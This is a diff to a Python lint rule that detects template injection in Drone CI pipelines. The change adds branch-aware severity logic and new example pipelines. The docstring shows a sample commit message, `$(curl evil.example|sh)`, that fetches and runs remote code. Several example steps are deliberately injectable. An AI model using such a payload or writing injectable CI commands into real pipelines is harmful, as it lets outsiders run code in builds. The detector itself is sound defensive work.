@@ -5,7 +5,7 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 from drone_lint.api import CWE, OWASP, Edit, Example, Finding, Fix, Jsonnet, Pipeline, Rule, Severity, Step, Trigger, Value, step_events
-from drone_lint_rules.injection._tainted import GUARDED, Paste, pastes, source_name
+from drone_lint_rules.injection._tainted import GUARDED, Paste, is_fixed, pastes, source_name, writer
 
 
 class TemplateInjection(Rule):
@@ -14,6 +14,9 @@ class TemplateInjection(Rule):
     `${DRONE_COMMIT_MESSAGE}` and the like are replaced in the file's text, before YAML and the shell see it. Quotes do not help: `echo "${DRONE_COMMIT_MESSAGE}"` with
     the message `$(curl evil.example|sh)` runs it, and a message with `"` or `'` ends the string. Names of branches and tags are restricted by Git, but
     `$(){};|&` are allowed in them.
+
+    The message says who fills the variable, by the events for which the step can run. What `branch: [main]` leaves no choice in is no finding; branches and tags where
+    only people with write access start the build are notices.
 
     Let the shell read the variable, in double quotes: `"$DRONE_COMMIT_MESSAGE"` or `"$${DRONE_COMMIT_MESSAGE}"`. Every step has all of them in its environment.
     """
@@ -39,6 +42,23 @@ class TemplateInjection(Rule):
           - git log --author=${CI_COMMIT_AUTHOR_NAME}  # <- template-injection
           - git checkout ${DRONE_SOURCE_BRANCH//x/y}  # <- template-injection
           - make VERSION=${OTHER:-${DRONE_TAG}} ${DRONE_BRANCH}  # <- template-injection, template-injection
+        """,
+        """
+        kind: pipeline
+        type: docker
+        name: default
+        steps:
+        - name: a pattern leaves a choice, and so does the source of a pull request
+          image: alpine:3.20
+          commands:
+          - make ${DRONE_BRANCH}  # <- template-injection
+          when: {branch: [main, release/*]}
+        - name: source
+          image: alpine:3.20
+          commands:
+          - make ${DRONE_SOURCE_BRANCH}  # <- template-injection
+          - echo ${DRONE_COMMIT_MESSAGE}  # <- template-injection
+          when: {branch: [main]}
         """,
         Example(
             """
@@ -75,35 +95,42 @@ class TemplateInjection(Rule):
           commands:
           - echo "$DRONE_COMMIT_MESSAGE" "$${DRONE_COMMIT_MESSAGE}" $$DRONE_TAG
           - echo ${DRONE_COMMIT_SHA:0:8} ${DRONE_BUILD_NUMBER} ${DRONE_REPO_BRANCH} ${DRONE_SEMVER_MAJOR} ${#DRONE_COMMIT_MESSAGE}
+        - name: fixed
+          image: alpine:3.20
+          commands:
+          - make push-${DRONE_BRANCH} ${DRONE_COMMIT_BRANCH}
+          when: {branch: ["{main,develop}"]}
+        ---
+        kind: pipeline
+        type: docker
+        name: refs
+        trigger: {ref: [refs/heads/main], event: [push]}
+        steps:
+        - name: fixed
+          image: alpine:3.20
+          commands: ['echo ${DRONE_COMMIT_REF}']
         """,
     )
 
     def check_step(self, step: Step, pipeline: Pipeline) -> Iterator[Finding]:
         for command in step.commands:
             for paste in pastes(command) if "${" in command.text else ():
-                yield self._finding(step, command, paste)
+                if not is_fixed(step, paste.expansion.name):
+                    yield self._finding(step, command, paste)
 
     def _finding(self, step: Step, command: Value, paste: Paste) -> Finding:
         expansion = paste.expansion
-        plain = expansion.form == ""
+        events = step_events(step)
         shell = f"$${{{expansion.name}}}"
-        severity, guarded = _severity(step, paste)
-        who = "whoever may push tags" if guarded else "a stranger"
+        written = command.text[expansion.start : expansion.end]
+        guarded = not paste.free and events <= GUARDED
         return self.finding(
             command.range(expansion.start, expansion.end),
-            f"`{command.text[expansion.start : expansion.end]}` pastes {source_name(expansion.name)} into a command as text, where {who} can put commands",
-            severity=severity,
+            f"`{written}` pastes {source_name(expansion.name)} into a command as text, where {writer(expansion.name, events)} can put commands",
+            severity=Severity.ERROR if paste.free else Severity.NOTICE if guarded else Severity.WARNING,
             help=f'let the shell read it, in double quotes: `"${expansion.name}"` or `"{shell}"`',
-            fix=_escape(command, paste) if plain else None,
+            fix=_escape(command, paste) if expansion.form == "" else None,
         )
-
-
-def _severity(step: Step, paste: Paste) -> tuple[Severity, bool]:
-    """How bad it is, and whether only people with write access fill the variable here."""
-    if paste.free:
-        return Severity.ERROR, False
-    guarded = step_events(step) <= GUARDED
-    return (Severity.NOTICE if guarded else Severity.WARNING), guarded
 
 
 def _escape(command: Value, paste: Paste) -> Fix | None:
